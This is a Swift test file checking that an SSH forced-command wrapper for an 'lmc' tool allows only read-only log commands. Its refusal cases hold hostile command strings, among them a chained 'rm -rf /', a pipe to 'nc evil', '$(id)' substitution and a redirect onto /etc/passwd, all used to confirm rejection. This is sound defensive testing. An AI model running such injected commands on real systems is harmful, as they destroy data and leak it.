import Foundation
import LMCTestSupport
import Testing

/// `lmc log ssh-command`: what the DNO's forced-command account may and may not run.
@Suite struct SSHCommandTests {
    func ssh(_ command: String, dir: String) throws -> (status: Int32, out: String, err: String) {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: Repo.lmc)
        p.arguments = ["log", "ssh-command", "--dir", dir]
        p.environment = ["SSH_ORIGINAL_COMMAND": command, "PATH": "/usr/bin:/bin"]
        let out = Pipe(), err = Pipe()
        p.standardOutput = out
        p.standardError = err
        try p.run()
        p.waitUntilExit()
        return (p.terminationStatus, String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self),
                String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self))
    }

    @Test func refusesAnythingButTheReadOnlyLogCommands() throws {
        let dir = "/tmp/lmc-ssh-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let refused: [(String, String)] = [
            ("", "no command given"),
            ("log export --ring events; rm -rf /", "character ';' is not allowed"),
            ("log export --ring events | nc evil 1", "character '|' is not allowed"),
            ("log export --ring $(id)", "character '$' is not allowed"),
            ("log export --ring 'events'", "character ''' is not allowed"),
            ("log export --ring events > /etc/passwd", "character '>' is not allowed"),
            ("override set --site hub --kw 0 --for 1h", "only 'log …' commands are allowed"),
            ("reset-lockout", "only 'log …' commands are allowed"),
            ("log ssh-command", "'log ssh-command' is not allowed"),
            ("log export --ring events --dir /etc", "character '/' is not allowed"),
            ("log export --ring events --dir etc", "'--dir' is not an allowed option"),
            ("bash", "only 'log …' commands are allowed"),
        ]
        for (command, why) in refused {
            let r = try ssh(command, dir: dir)
            #expect(r.status == 1, "\(command)")
            #expect(r.err.contains("refused: \(why)"), "\(command): \(r.err)")
            #expect(r.err.contains("Allowed: log info"))
        }
    }

    @Test func runsTheAllowedOnes() throws {
        let dir = "/tmp/lmc-ssh-ok-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        // A ring with a few events, written by the crash-test writer's format (samples ring).
        let w = try run(Repo.lmc, ["_ring-test-writer", "--path", "\(dir)/samples.ring", "--count", "10", "--capacity", "64"])
        #expect(w.status == 0, "\(w.err)")
        let info = try ssh("log info", dir: dir)
        #expect(info.status == 0, "\(info.err)")
        #expect(info.out.contains("samples: ") && info.out.contains("holds 10"))
        let viaLmc = try ssh("lmc log info", dir: dir)
        #expect(viaLmc.status == 0)
        let bad = try ssh("log export --ring halfyears", dir: dir)
        #expect(bad.status != 0 && bad.err.contains("--ring 'halfyears' is not samples or events"))
    }
}
